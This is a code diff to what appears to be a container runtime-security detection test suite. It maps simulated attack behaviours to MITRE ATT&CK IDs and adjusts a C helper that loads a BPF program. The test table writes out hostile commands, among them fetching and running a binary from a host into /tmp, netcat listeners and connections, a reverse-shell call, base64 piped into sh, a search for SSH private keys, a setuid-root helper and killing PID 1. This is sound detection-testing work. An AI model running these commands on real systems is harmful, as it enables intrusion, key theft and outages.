@@ -100,7 +100,12 @@ int main(int n, char **a) {
   }
   if (!strcmp(what, "root")) { setresuid(99, 99, 0); return setuid(0); }
   if (!strcmp(what, "nobody")) return setuid(99);
-  if (!strcmp(what, "bpf")) { syscall(SYS_bpf, 0, 0, 0); return 0; }
+  if (!strcmp(what, "bpf")) {  // a filter of sockets that lets nothing pass
+    struct { unsigned char code, regs; short off; int imm; } no[] = {{0xb7}, {0x95}};
+    struct { unsigned type, size; unsigned long code, license; unsigned long more[12]; } a = {
+        1, 2, (unsigned long)no, (unsigned long)"GPL"};
+    return syscall(SYS_bpf, 5, &a, sizeof a) < 0;
+  }
   return 0;
 }
 """
@@ -136,8 +141,8 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
             (
                 "reverse shell",
                 ("tool", "reverse", door, "4444"),
-                "T1059 T1071 T1095",
-                "socket",
+                "T1071 T1095",
+                "tool",
                 ("tool", "connect", door, "4444"),
             ),
             (
@@ -186,7 +191,7 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
             (
                 "package manager",
                 sh("/sbin/apk add nmap"),
-                "T1059 T1072 T1105 T1608 T1554 T1588",
+                "T1072 T1105",
                 "apk",
                 sh("echo apk add nmap"),
             ),
@@ -199,8 +204,8 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
             ),
             (
                 "netcat listens",
-                sh("nc -l -p 4445 </dev/null & sleep 0.3; kill $!"),
-                "T1059 T1071 T1090 T1095 T1105 T1571 T1572",
+                sh("/bin/nc -l -p 4445 </dev/null & sleep 0.3; kill $!"),
+                "T1071 T1090 T1095 T1105 T1571 T1572",
                 "nc",
                 sh("ls -l /bin/nc"),
             ),
@@ -269,7 +274,7 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
             (
                 "fetched and run",
                 sh(f"wget -q -O /tmp/x http://{door}:8000/x; chmod +x /tmp/x; /tmp/x"),
-                "T1059 T1105 T1204 T1036 T1608 T1570",
+                "T1105 T1204 T1036 T1570",
                 "/tmp/x",
                 sh("ls /tmp"),
             ),
@@ -282,7 +287,7 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
             ),
             (
                 "API server by an unusual program",
-                sh(f"nc -w 1 {api} 6443 </dev/null"),
+                sh(f"/bin/nc -w 1 {api} 6443 </dev/null"),
                 "T1613 T1528 T1552 T1078 T1071 T1046 T1105 T1106 T1133",
                 "6443",
                 sh(f"cat /dev/null; echo {api} 6443"),
@@ -309,7 +314,14 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
                 sh("cat /etc/passwd > /dev/null"),
             ),
             ("root again", ("tool", "root"), "T1548 T1068 T1078", "setuid", ("tool", "nobody")),
-            ("BPF program", ("tool", "bpf"), "T1014 T1547 T1611 T1068", "bpf", ("tool", "fork")),
+            (
+                "BPF program",
+                ("tool", "bpf"),
+                "T1014 T1547",
+                "bpf",
+                ("tool", "fork"),
+                "root",
+            ),
             (
                 "first process killed",
                 sh("/bin/kill -9 1"),
@@ -320,16 +332,16 @@ def behaviours(door: str, api: str) -> tuple[Behaviour, ...]:
             (
                 "text decoded into a shell",
                 sh("echo aWQK | base64 -d | sh"),
-                "T1027 T1140 T1059",
+                "T1027 T1140 T1105",
                 "base64 -d",
                 sh("echo aWQK | base64 -d"),
             ),
             (
                 "keys searched for",
-                sh("find /root /etc -name id_rsa"),
+                sh("/bin/find /root /etc -name id_rsa"),
                 "T1552",
                 "id_rsa",
-                sh("find /data -name report"),
+                sh("/bin/find /data -name report"),
             ),
         )
     )
